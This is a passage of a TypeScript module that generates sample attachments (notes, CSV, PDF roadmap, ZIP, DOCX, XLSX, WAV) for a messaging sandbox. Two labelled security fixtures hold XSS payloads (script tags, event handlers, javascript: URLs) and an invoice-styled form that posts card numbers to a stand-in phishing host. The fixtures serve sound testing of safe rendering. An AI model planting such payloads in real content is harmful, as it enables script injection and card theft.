/**
 * Demo attachment files for the messaging sandbox.
 *
 * Every file is a real, valid file of its type, and the bytes are the same on every run:
 * - text formats, SVG, HTML, PDF, ZIP (and the OOXML documents built on it) and WAV are written
 *   here in plain TypeScript;
 * - formats that are impractical to encode by hand (JPEG, WebP, GIF, PNG art, MP3, MP4, WebM) are
 *   small fixtures under ./files/, rendered once with ffmpeg/ImageMagick and committed, so at
 *   runtime nothing but Node is needed.
 *
 * Two files are hostile on purpose (security fixtures): `xss-test.svg` and `xss-test.html`.
 */
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { crc32 } from 'node:zlib';

export interface SampleFile {
  /** Realistic file name, e.g. "q3-roadmap.pdf". */
  name: string;
  /** MIME type, e.g. "image/png". */
  type: string;
  /** The full content. */
  bytes: Buffer;
}

export interface LargeSampleFile {
  name: string;
  type: string;
  /** Exact byte size: the sum of the chunk lengths. */
  size: number;
  /** The content in chunks of about 1 MiB, generated lazily and deterministically. */
  chunks(): Iterable<Buffer>;
}

// ---------------------------------------------------------------------------------------------
// Binary fixtures

const fixtureCache = new Map<string, Buffer>();
// A plain path from this module's URL: bundlers rewrite the `new URL('./x', import.meta.url)` form.
const fixtureDir = join(dirname(fileURLToPath(import.meta.url)), 'files');

function fixture(name: string): Buffer {
  let bytes = fixtureCache.get(name);
  if (!bytes) {
    bytes = readFileSync(join(fixtureDir, name));
    fixtureCache.set(name, bytes);
  }
  // A copy, so that a caller changing its buffer cannot change what the next call returns.
  return Buffer.from(bytes);
}

const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8');

// ---------------------------------------------------------------------------------------------
// Text formats

const MEETING_NOTES = `Weekly product sync — Inbox 2.0
Date: Thursday 1 October 2026, 10:00–10:45 (CEST)
Attendees: Priya Raman, Marcus Chen, Lena Vogel, Tomás Ortega, Dana Whitfield

1. Launch status
   - Release candidate rc.3 is on staging; no open P0/P1 bugs.
   - p95 latency of list-messages: 410 ms → 120 ms after the new index.
   - Load test at 2× peak traffic passed (error rate 0.02 %).

2. Attachments & gallery
   - Image grid now lazy-loads thumbnails; PDFs open in the built-in viewer.
   - Long file names are truncated too early on mobile (INB-482, owner: Tomás).
   - SVG uploads are shown as downloads only — never rendered inline.

3. Rollout
   - 5 % of workspaces on Mon 12 Oct, 50 % on Wed, 100 % on Wed 14 Oct.
   - Support macros and the status-page banner still to do (owner: Dana).

Action items
  [ ] Priya  — final copy for the launch email, by Friday noon
  [ ] Marcus — dashboards + alerts for the rollout, by Monday
  [ ] Lena   — export the store screenshots at 2×
  [x] Tomás  — fix attachment chip truncation (merged, needs QA)

Next sync: Thursday 8 October 2026 — “go / no-go” for the 5 % rollout 🚀
`;

const LAUNCH_PLAN_CSV = [
  'task_id,task,owner,team,start_date,due_date,status,estimate_days,notes',
  'INB-401,Finalise launch email copy,Priya Raman,Marketing,2026-09-28,2026-10-02,in_progress,3,"Legal review on Thursday, then schedule"',
  'INB-412,Pricing page update,Dana Whitfield,Web,2026-09-21,2026-09-30,done,4,',
  'INB-425,Load test at 2x peak traffic,Marcus Chen,Backend,2026-09-22,2026-09-29,done,5,"p95 120 ms, error rate 0.02%"',
  'INB-433,Status page banner,Dana Whitfield,Support,2026-10-05,2026-10-09,todo,1,',
  'INB-440,Support macros for Inbox 2.0,Dana Whitfield,Support,2026-10-01,2026-10-09,todo,2,"Cover ""where did my folders go?"" question"',
  'INB-447,Store screenshots at 2x,Lena Vogel,Design,2026-09-30,2026-10-06,in_progress,2,"iOS, Android and web"',
  'INB-458,Rollout dashboards and alerts,Marcus Chen,Backend,2026-10-02,2026-10-09,in_progress,3,',
  'INB-466,Gallery lazy-loading,Lena Vogel,Frontend,2026-09-14,2026-09-25,done,6,',
  'INB-482,Attachment chip truncates long names on mobile,Tomás Ortega,Frontend,2026-10-01,2026-10-07,in_review,1,"Needs QA on iPhone SE, Pixel 7"',
  'INB-490,Announce in #general,Priya Raman,Marketing,2026-10-14,2026-10-14,todo,0.5,"After 100% rollout, with the launch video"',
  '',
].join('\r\n');

const WEBHOOK_PAYLOAD = {
  id: 'evt_01J9Z6Q4M8T3K2R7V5W0XCY1BD',
  type: 'message.created',
  created_at: '2026-10-03T09:31:27.418Z',
  api_version: '2026-07-01',
  workspace: { id: 'ws_acme', name: 'Acme Inc.' },
  data: {
    message: {
      id: 'msg_7f3c2a91',
      conversation_id: 'conv_product_launch',
      author: { id: 'usr_priya', name: 'Priya Raman', email: 'priya.raman@acme.example' },
      content: [{ type: 'text', text: 'Here is the Q3 roadmap, comments welcome by Friday 🙏' }],
      attachments: [
        {
          id: 'att_5d81e0',
          file_name: 'q3-roadmap.pdf',
          content_type: 'application/pdf',
          size: 7704,
          url: 'https://files.acme.example/att_5d81e0/q3-roadmap.pdf',
        },
      ],
      mentions: ['usr_marcus', 'usr_lena'],
      thread: null,
      edited: false,
      created_at: '2026-10-03T09:31:27.102Z',
    },
  },
  delivery: {
    attempt: 1,
    max_attempts: 8,
    signature: 'v1=2b5f0c1e9a7d4f3b8c6e1a0d9f2b7c4e5a8d3f6b1c0e9a2d7f4b3c8e5a1d6f0b',
  },
};

const ACME_LOGO_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="480" height="160" viewBox="0 0 480 160" role="img" aria-labelledby="title">
  <title id="title">Acme Inc. logo</title>
  <defs>
    <linearGradient id="mark" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0" stop-color="#818cf8"/>
      <stop offset="1" stop-color="#4338ca"/>
    </linearGradient>
  </defs>
  <rect width="480" height="160" rx="24" fill="#ffffff"/>
  <g transform="translate(40 28)">
    <rect width="104" height="104" rx="26" fill="url(#mark)"/>
    <path d="M24 78 L52 22 L80 78 Z" fill="none" stroke="#ffffff" stroke-width="10" stroke-linejoin="round"/>
    <circle cx="52" cy="62" r="8" fill="#fbbf24"/>
  </g>
  <text x="172" y="96" font-family="Helvetica, Arial, sans-serif" font-size="56" font-weight="700" fill="#1e1b4b">acme</text>
  <text x="176" y="124" font-family="Helvetica, Arial, sans-serif" font-size="16" letter-spacing="4" fill="#6b7280">MESSAGING</text>
</svg>
`;

/** Security fixture: script element, onload handler and a javascript: link. Must never execute. */
const XSS_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="320" height="200" viewBox="0 0 320 200" onload="alert(document.domain)">
  <script>alert(1)</script>
  <rect width="320" height="200" rx="16" fill="#fef2f2" stroke="#dc2626" stroke-width="4"/>
  <a xlink:href="javascript:alert('svg-link')" href="javascript:alert('svg-link')">
    <text x="160" y="92" text-anchor="middle" font-family="sans-serif" font-size="28" font-weight="700" fill="#b91c1c">XSS test</text>
  </a>
  <text x="160" y="132" text-anchor="middle" font-family="sans-serif" font-size="14" fill="#7f1d1d">If an alert appeared, this SVG was rendered unsafely.</text>
</svg>
`;

/** Security fixture: inline script, event-handler attributes and a javascript: URL. */
const XSS_HTML = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Invoice #4821 - Acme Inc.</title>
<script>alert('xss')</script>
</head>
<body onload="alert('body-onload')">
<h1>Invoice #4821</h1>
<p>Amount due: <strong>$12,480.00</strong> by 31 October 2026.</p>
<img src="x" alt="logo" onerror="alert('img-onerror')">
<p><a href="javascript:alert('link')">View payment details</a></p>
<iframe srcdoc="&lt;script&gt;alert('iframe')&lt;/script&gt;"></iframe>
<form action="https://phish.example/collect" method="post">
  <label>Card number <input name="card" autocomplete="cc-number"></label>
  <button type="submit">Pay now</button>
</form>
<p style="color:#999">If an alert appeared, this HTML was rendered unsafely.</p>
</body>
</html>
`;

// ---------------------------------------------------------------------------------------------
// PDF (hand-written objects and xref table; standard Type 1 fonts, no embedding)

type Rgb = readonly [number, number, number];

function pdfString(text: string): string {
  for (const ch of text) {
    const code = ch.charCodeAt(0);
    if (code < 0x20 || code > 0x7e) throw new Error(`PDF text must be printable ASCII: ${JSON.stringify(text)}`);
  }
  return `(${text.replace(/[\\()]/g, (c) => `\\${c}`)})`;
}

class PdfPage {
  readonly ops: string[] = [];
  private fill(rgb: Rgb): string {
    return `${rgb.map((v) => v.toFixed(3)).join(' ')} rg`;
  }
  text(x: number, y: number, text: string, opts: { size?: number; bold?: boolean; color?: Rgb } = {}): void {
    const { size = 11, bold = false, color = [0.13, 0.16, 0.22] } = opts;
    this.ops.push(`BT ${this.fill(color)} /${bold ? 'F2' : 'F1'} ${size} Tf ${x} ${y} Td ${pdfString(text)} Tj ET`);
  }
  rect(x: number, y: number, w: number, h: number, color: Rgb): void {
    this.ops.push(`${this.fill(color)} ${x} ${y} ${w} ${h} re f`);
  }
  line(x1: number, y1: number, x2: number, y2: number, gray = 0.82, width = 0.75): void {
    this.ops.push(`${gray} G ${width} w ${x1} ${y1} m ${x2} ${y2} l S`);
  }
  content(): string {
    return this.ops.join('\n') + '\n';
  }
}

function buildPdf(pages: PdfPage[], info: Record<string, string>): Buffer {
  // Object numbers: 1 catalog, 2 page tree, 3-4 fonts, 5 info, then (page, contents) pairs.
  const objects: string[] = [];
  const pageIds = pages.map((_, i) => 6 + i * 2);
  objects[1] = '<< /Type /Catalog /Pages 2 0 R >>';
  objects[2] = `<< /Type /Pages /Kids [${pageIds.map((id) => `${id} 0 R`).join(' ')}] /Count ${pages.length} >>`;
  objects[3] = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
  objects[4] = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>';
  objects[5] = `<< ${Object.entries(info)
    .map(([k, v]) => `/${k} ${pdfString(v)}`)
    .join(' ')} >>`;
  pages.forEach((page, i) => {
    const id = pageIds[i]!;
    const content = page.content();
    objects[id] =
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ' +
      `/Resources << /Font << /F1 3 0 R /F2 4 0 R >> >> /Contents ${id + 1} 0 R >>`;
    objects[id + 1] = `<< /Length ${content.length} >>\nstream\n${content}endstream`;
  });

  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  for (let id = 1; id < objects.length; id++) {
    offsets[id] = out.length;
    out += `${id} 0 obj\n${objects[id]}\nendobj\n`;
  }
  const xref = out.length;
  out += `xref\n0 ${objects.length}\n0000000000 65535 f \n`;
  for (let id = 1; id < objects.length; id++) out += `${String(offsets[id]).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length} /Root 1 0 R /Info 5 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  // Every character is < 0x100, so latin1 keeps one byte per character and the offsets exact.
  return Buffer.from(out, 'latin1');
}

/** Helvetica advance widths (1/1000 em) of the printable ASCII characters 0x20-0x7e. */
const HELVETICA_WIDTHS = [
  278, 278, 355, 556, 556, 889, 667, 191, 333, 333, 389, 584, 278, 333, 278, 278, 556, 556, 556, 556, 556, 556, 556,
  556, 556, 556, 278, 278, 584, 584, 584, 556, 1015, 667, 667, 722, 722, 667, 611, 778, 722, 278, 500, 667, 556, 833,
  722, 778, 667, 778, 722, 667, 611, 722, 667, 944, 667, 667, 611, 278, 278, 278, 469, 556, 333, 556, 556, 500, 556,
  556, 278, 556, 556, 222, 222, 500, 222, 833, 556, 556, 556, 556, 333, 500, 278, 556, 500, 722, 500, 500, 500, 334,
  260, 334, 584,
];

function textWidth(text: string, size: number): number {
  let width = 0;
  for (let i = 0; i < text.length; i++) width += HELVETICA_WIDTHS[text.charCodeAt(i) - 0x20] ?? 556;
  return (width * size) / 1000;
}

/** Greedy word wrap of Helvetica text to a width in points. */
function wrap(text: string, maxWidth: number, size = 11): string[] {
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(' ')) {
    const candidate = line ? `${line} ${word}` : word;
    if (line && textWidth(candidate, size) > maxWidth) {
      lines.push(line);
      line = word;
    } else line = candidate;
  }
  if (line) lines.push(line);
  return lines;
}

const INDIGO: Rgb = [0.263, 0.22, 0.792];
const MUTED: Rgb = [0.42, 0.45, 0.5];

function roadmapPdf(): Buffer {
  const footer = (page: PdfPage, n: number) => {
    page.line(72, 60, 540, 60);
    page.text(72, 44, 'Acme Inc. - Confidential, internal use only', { size: 8, color: MUTED });
    page.text(496, 44, `Page ${n} of 2`, { size: 8, color: MUTED });
  };
  const heading = (page: PdfPage, y: number, text: string) =>
    page.text(72, y, text, { size: 14, bold: true, color: INDIGO });

  // Page 1: header, summary, goals, timeline.
  const p1 = new PdfPage();
  p1.rect(0, 712, 612, 80, INDIGO);
  p1.text(72, 752, 'Q3 2026 Product Roadmap', { size: 24, bold: true, color: [1, 1, 1] });
  p1.text(72, 730, 'Inbox team  |  prepared by Priya Raman  |  updated 3 October 2026', {
    size: 10,
    color: [0.85, 0.87, 1],
  });
  let y = 676;
  heading(p1, y, 'Summary');
  y -= 20;
  const summary =
    'Q3 was about making the inbox fast and pleasant for teams that live in it all day. We rebuilt ' +
    'conversation loading, shipped the attachment gallery and prepared the Inbox 2.0 launch. Revenue ' +
    'closed 18% above Q2 and weekly active teams grew from 41,200 to 48,900. This document lists what ' +
    'shipped, what moved to Q4 and the milestones for the 2.0 rollout.';
  for (const line of wrap(summary, 468)) {
    p1.text(72, y, line);
    y -= 15;
  }
  y -= 14;
  heading(p1, y, 'Goals');
  y -= 20;
  const goals = [
    'p95 latency of list-messages under 150 ms (was 410 ms) - achieved: 120 ms',
    'Attachment gallery with image, PDF, audio and video previews - achieved',
    'Weekly active teams +15% - achieved: +18.7%',
    'Offline mode for the desktop app - moved to Q4',
  ];
  for (const goal of goals) {
    p1.rect(76, y + 2, 4, 4, INDIGO);
    p1.text(88, y, goal);
    y -= 17;
  }
  y -= 16;
  heading(p1, y, 'Timeline');
  y -= 24;
  const x0 = 230;
  const colW = 100;
  ['July', 'August', 'September'].forEach((m, i) => {
    p1.text(x0 + i * colW + 8, y, m, { size: 10, bold: true, color: MUTED });
    p1.line(x0 + i * colW, y - 8, x0 + i * colW, y - 8 - 7 * 26);
  });
  p1.line(x0 + 3 * colW, y - 8, x0 + 3 * colW, y - 8 - 7 * 26);
  const epics: [string, number, number, Rgb][] = [
    ['Conversation loading rewrite', 0, 1.4, [0.31, 0.27, 0.9]],
    ['Attachment gallery', 0.6, 2.2, [0.02, 0.71, 0.83]],
    ['Search relevance v2', 1.0, 2.0, [0.96, 0.62, 0.04]],
    ['Notification settings', 1.5, 2.5, [0.13, 0.77, 0.37]],
    ['Accessibility audit fixes', 1.8, 2.9, [0.66, 0.33, 0.97]],
    ['Inbox 2.0 launch prep', 2.2, 3.0, [0.96, 0.25, 0.37]],
    ['Offline mode (moved to Q4)', 2.5, 3.0, [0.75, 0.77, 0.8]],
  ];
  y -= 28;
  for (const [name, from, to, color] of epics) {
    p1.text(72, y, name, { size: 10 });
    p1.rect(x0 + from * colW + 2, y - 3, (to - from) * colW - 4, 12, color);
    y -= 26;
  }
  footer(p1, 1);

  // Page 2: milestones table, risks, next steps.
  const p2 = new PdfPage();
  y = 720;
  heading(p2, y, 'Inbox 2.0 milestones');
  y -= 26;
  const cols = [72, 262, 372, 452];
  const header = ['Milestone', 'Owner', 'Date', 'Status'];
  p2.rect(72, y - 6, 468, 20, [0.93, 0.94, 0.99]);
  header.forEach((h, i) => p2.text(cols[i]! + 6, y, h, { size: 10, bold: true }));
  y -= 22;
  const milestones = [
    ['Release candidate on staging', 'Marcus Chen', '2026-09-29', 'Done'],
    ['Launch email approved', 'Priya Raman', '2026-10-02', 'In progress'],
    ['Support macros + status banner', 'Dana Whitfield', '2026-10-09', 'To do'],
    ['Rollout to 5% of workspaces', 'Marcus Chen', '2026-10-12', 'Scheduled'],
    ['Rollout to 50% of workspaces', 'Marcus Chen', '2026-10-13', 'Scheduled'],
    ['General availability (100%)', 'Priya Raman', '2026-10-14', 'Scheduled'],
  ];
  for (const row of milestones) {
    row.forEach((cell, i) =>
      p2.text(cols[i]! + 6, y, cell, { size: 10, color: i === 3 && cell === 'Done' ? [0.09, 0.5, 0.24] : undefined }),
    );
    p2.line(72, y - 7, 540, y - 7);
    y -= 22;
  }
  y -= 22;
  heading(p2, y, 'Risks');
  y -= 20;
  const risks = [
    'Search index rebuild takes about 6 hours for the largest workspaces; run it the weekend before GA.',
    'Mobile clients older than 4.12 cannot show the new gallery; they fall back to a plain file list.',
    'Support volume usually doubles in launch week; two extra people are on call from 12 to 16 October.',
  ];
  for (const risk of risks) {
    const lines = wrap(risk, 452);
    p2.rect(76, y + 2, 4, 4, [0.96, 0.25, 0.37]);
    for (const line of lines) {
      p2.text(88, y, line);
      y -= 15;
    }
    y -= 4;
  }
  y -= 16;
  heading(p2, y, 'Next steps');
  y -= 20;
  const steps = [
    '1. Go / no-go for the 5% rollout in the sync on Thursday 8 October.',
    '2. Keep the rollout dashboards open in #product-launch during each step.',
    '3. Q4 planning kicks off on 19 October; offline mode is the first candidate.',
  ];
  for (const step of steps) {
    p2.text(88, y, step);
    y -= 17;
  }
  footer(p2, 2);

  return buildPdf([p1, p2], {
    Title: 'Q3 2026 Product Roadmap',
    Author: 'Priya Raman',
    Subject: 'Inbox team roadmap and Inbox 2.0 launch milestones',
    Creator: 'Acme Docs',
    Producer: 'stackone-inbox sandbox',
    CreationDate: 'D:20261003093000Z',
    ModDate: 'D:20261003093000Z',
  });
}

// ---------------------------------------------------------------------------------------------
// ZIP (stored entries, fixed timestamps)

interface ZipEntry {
  name: string;
  data: Buffer;
}

// 2026-10-03 09:30:00 in MS-DOS format.
const DOS_TIME = (9 << 11) | (30 << 5) | 0;
const DOS_DATE = ((2026 - 1980) << 9) | (10 << 5) | 3;

function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data } of entries) {
    const nameBytes = utf8(name);
    const crc = crc32(data) >>> 0;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed to extract: 2.0
    local.writeUInt16LE(0x0800, 6); // flags: names are UTF-8
    local.writeUInt16LE(0, 8); // method: stored
    local.writeUInt16LE(DOS_TIME, 10);
    local.writeUInt16LE(DOS_DATE, 12);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE((3 << 8) | 20, 4); // made by: Unix, 2.0
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(0, 10);
    central.writeUInt16LE(DOS_TIME, 12);
    central.writeUInt16LE(DOS_DATE, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    // extra length, comment length, disk number, internal attributes: 0
    central.writeUInt32LE((0o100644 << 16) >>> 0, 38); // external attributes: regular file, rw-r--r--
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

function releaseKitZip(): Buffer {
  return zip([
    {
      name: 'release-kit/README.md',
      data: utf8(
        '# Inbox 2.0 release kit\n\n' +
          'Everything needed for the launch on 14 October 2026:\n\n' +
          '- `release-notes.md` - customer-facing notes, approved by Legal\n' +
          '- `feature-flags.json` - the flags flipped at each rollout step\n\n' +
          'Questions? Ask in #product-launch.\n',
      ),
    },
    {
      name: 'release-kit/release-notes.md',
      data: utf8(
        '# What is new in Inbox 2.0\n\n' +
          '## Faster everything\n' +
          'Conversations open up to 3x faster, even with years of history.\n\n' +
          '## Attachment gallery\n' +
          'Photos, PDFs, audio and video now preview right in the conversation.\n\n' +
          '## Smarter search\n' +
          'Search understands names, file types and dates ("pdf from Priya last week").\n\n' +
          '## Fixes\n' +
          '- Long file names no longer get cut off on small screens.\n' +
          '- Notification settings are remembered per conversation.\n',
      ),
    },
    {
      name: 'release-kit/feature-flags.json',
      data: utf8(
        JSON.stringify(
          {
            rollout: [
              { step: '5%', date: '2026-10-12', flags: { inbox_v2: true, gallery: true, search_v2: false } },
              { step: '50%', date: '2026-10-13', flags: { inbox_v2: true, gallery: true, search_v2: true } },
              { step: '100%', date: '2026-10-14', flags: { inbox_v2: true, gallery: true, search_v2: true } },
            ],
            kill_switch: 'inbox_v2',
          },
          null,
          2,
        ) + '\n',
      ),
    },
  ]);
}

// ---------------------------------------------------------------------------------------------
// Office Open XML documents (minimal, valid packages built with the ZIP writer above)

const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const xmlEscape = (s: string) =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const REL_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE_DOC_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function contentTypes(overrides: Record<string, string>): Buffer {
  return utf8(
    XML_HEAD +
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      Object.entries(overrides)
        .map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`)
        .join('') +
      '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>' +
      '</Types>',
  );
}

function rootRels(target: string): Buffer {
  return utf8(
    XML_HEAD +
      `<Relationships xmlns="${REL_NS}">` +
      `<Relationship Id="rId1" Type="${OFFICE_DOC_REL}/officeDocument" Target="${target}"/>` +
      '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>' +
      '</Relationships>',
  );
}

function coreProps(title: string, creator: string): Buffer {
  return utf8(
    XML_HEAD +
      '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" ' +
      'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" ' +
      'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">' +
      `<dc:title>${xmlEscape(title)}</dc:title><dc:creator>${xmlEscape(creator)}</dc:creator>` +
      '<dcterms:created xsi:type="dcterms:W3CDTF">2026-09-30T14:00:00Z</dcterms:created>' +
      '<dcterms:modified xsi:type="dcterms:W3CDTF">2026-10-02T08:15:00Z</dcterms:modified>' +
      '</cp:coreProperties>',
  );
}

function projectBriefDocx(): Buffer {
  const run = (text: string, props = '') =>
    `<w:r>${props ? `<w:rPr>${props}</w:rPr>` : ''}<w:t xml:space="preserve">${xmlEscape(text)}</w:t></w:r>`;
  const para = (runs: string, spacingAfter = 160) =>
    `<w:p><w:pPr><w:spacing w:after="${spacingAfter}"/></w:pPr>${runs}</w:p>`;
  const title = (text: string) => para(run(text, '<w:b/><w:color w:val="4338CA"/><w:sz w:val="44"/>'), 240);
  const h = (text: string) => para(run(text, '<w:b/><w:sz w:val="28"/>'), 120);
  const body = [
    title('Project brief: Inbox 2.0 launch'),
    para(
      run('Owner: ', '<w:b/>') + run('Priya Raman') + run('    Status: ', '<w:b/>') + run('Approved, 2 October 2026'),
    ),
    h('Why'),
    para(
      run(
        'Teams told us the inbox feels slow with large conversations and that files get lost in the scroll. ' +
          'Inbox 2.0 fixes both: conversations open up to three times faster and every attachment is one click away in the gallery.',
      ),
    ),
    h('What we ship'),
    para(run('• Faster conversation loading (p95 120 ms).')),
    para(run('• Attachment gallery with previews for images, PDFs, audio and video.')),
    para(run('• Search that understands people, file types and dates.')),
    h('Success metrics'),
    para(run('Weekly active teams +10% within six weeks; support tickets about missing files −30%.')),
    h('Timeline'),
    para(run('5% on 12 October, 50% on 13 October, general availability on 14 October 2026.')),
  ].join('');
  const document =
    XML_HEAD +
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' +
    body +
    '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1440" w:header="708" w:footer="708" w:gutter="0"/></w:sectPr>' +
    '</w:body></w:document>';
  return zip([
    {
      name: '[Content_Types].xml',
      data: contentTypes({
        '/word/document.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      }),
    },
    { name: '_rels/.rels', data: rootRels('word/document.xml') },
    { name: 'docProps/core.xml', data: coreProps('Project brief: Inbox 2.0 launch', 'Priya Raman') },
    { name: 'word/document.xml', data: utf8(document) },
  ]);
}

function budgetXlsx(): Buffer {
  const rows: (string | number)[][] = [
    ['Category', 'Q1', 'Q2', 'Q3', 'Q4 (plan)', 'Total'],
    ['Cloud infrastructure', 48200, 51900, 55400, 58000],
    ['Contractors', 30000, 24000, 18500, 20000],
    ['Design tools & licences', 6400, 6400, 7100, 7100],
    ['Marketing (launch)', 12000, 9500, 26800, 15000],
    ['Travel & offsite', 8300, 4100, 16750, 3500],
    ['Training', 2500, 3000, 1800, 4000],
  ];
  const col = (i: number) => String.fromCharCode(65 + i);
  const cell = (ref: string, value: string | number) =>
    typeof value === 'number'
      ? `<c r="${ref}"><v>${value}</v></c>`
      : `<c r="${ref}" t="inlineStr"><is><t>${xmlEscape(value)}</t></is></c>`;
  const formula = (ref: string, f: string, value: number) => `<c r="${ref}"><f>${f}</f><v>${value}</v></c>`;
  let sheetRows = '';
  rows.forEach((row, r) => {
    const n = r + 1;
    let cells = row.map((v, i) => cell(`${col(i)}${n}`, v)).join('');
    if (r > 0) {
      const total = (row.slice(1) as number[]).reduce((a, b) => a + b, 0);
      cells += formula(`F${n}`, `SUM(B${n}:E${n})`, total);
    }
    sheetRows += `<row r="${n}">${cells}</row>`;
  });
  const last = rows.length;
  const totalRow = rows.length + 1;
  let totals = cell(`A${totalRow}`, 'Total');
  for (let i = 1; i <= 5; i++) {
    const sum = rows
      .slice(1)
      .reduce(
        (acc, row) => acc + (i === 5 ? (row.slice(1) as number[]).reduce((a, b) => a + b, 0) : (row[i] as number)),
        0,
      );
    totals += formula(`${col(i)}${totalRow}`, `SUM(${col(i)}2:${col(i)}${last})`, sum);
  }
  sheetRows += `<row r="${totalRow}">${totals}</row>`;
  const sheet =
    XML_HEAD +
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
    '<cols><col min="1" max="1" width="26" customWidth="1"/><col min="2" max="6" width="12" customWidth="1"/></cols>' +
    `<sheetData>${sheetRows}</sheetData></worksheet>`;
  const workbook =
    XML_HEAD +
    `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE_DOC_REL}">` +
    '<sheets><sheet name="Budget 2026" sheetId="1" r:id="rId1"/></sheets></workbook>';
  const workbookRels =
    XML_HEAD +
    `<Relationships xmlns="${REL_NS}">` +
    `<Relationship Id="rId1" Type="${OFFICE_DOC_REL}/worksheet" Target="worksheets/sheet1.xml"/>` +
    '</Relationships>';
  return zip([
    {
      name: '[Content_Types].xml',
      data: contentTypes({
        '/xl/workbook.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        '/xl/worksheets/sheet1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
      }),
    },
    { name: '_rels/.rels', data: rootRels('xl/workbook.xml') },
    { name: 'docProps/core.xml', data: coreProps('Team budget 2026', 'Dana Whitfield') },
    { name: 'xl/workbook.xml', data: utf8(workbook) },
    { name: 'xl/_rels/workbook.xml.rels', data: utf8(workbookRels) },
    { name: 'xl/worksheets/sheet1.xml', data: utf8(sheet) },
  ]);
}

// ---------------------------------------------------------------------------------------------
// WAV: a two-note notification chime, 16 kHz mono 16-bit PCM

function chimeWav(): Buffer {
  const rate = 16_000;
  const seconds = 1.6;
  const n = Math.round(rate * seconds);
  const pcm = Buffer.alloc(n * 2);
  const notes = [
    { at: 0, freq: 1318.51, gain: 0.5 }, // E6
    { at: 0.18, freq: 1046.5, gain: 0.55 }, // C6
  ];
  for (let i = 0; i < n; i++) {
    const t = i / rate;
    let v = 0;
    for (const note of notes) {
      const u = t - note.at;
      if (u < 0) continue;
      const attack = Math.min(1, u / 0.004);
      const env = attack * Math.exp(-u * 3.2);
      // Bell-like: fundamental plus two slightly inharmonic partials that die out faster.
      v +=
        note.gain *
        env *
        (Math.sin(2 * Math.PI * note.freq * u) +
          0.35 * Math.exp(-u * 6) * Math.sin(2 * Math.PI * note.freq * 2.76 * u) +
          0.15 * Math.exp(-u * 9) * Math.sin(2 * Math.PI * note.freq * 5.4 * u));
    }
    const fadeOut = Math.min(1, (n - i) / (rate * 0.05));
    pcm.writeInt16LE(Math.round(Math.max(-1, Math.min(1, v * 0.6 * fadeOut)) * 32767), i * 2);
  }
  const header = Buffer.alloc(44);
  header.write('RIFF', 0, 'latin1');
  header.writeUInt32LE(36 + pcm.length, 4);
  header.write('WAVE', 8, 'latin1');
  header.write('fmt ', 12, 'latin1');
  header.writeUInt32LE(16, 16); // fmt chunk size
  header.writeUInt16LE(1, 20); // PCM
  header.writeUInt16LE(1, 22); // mono
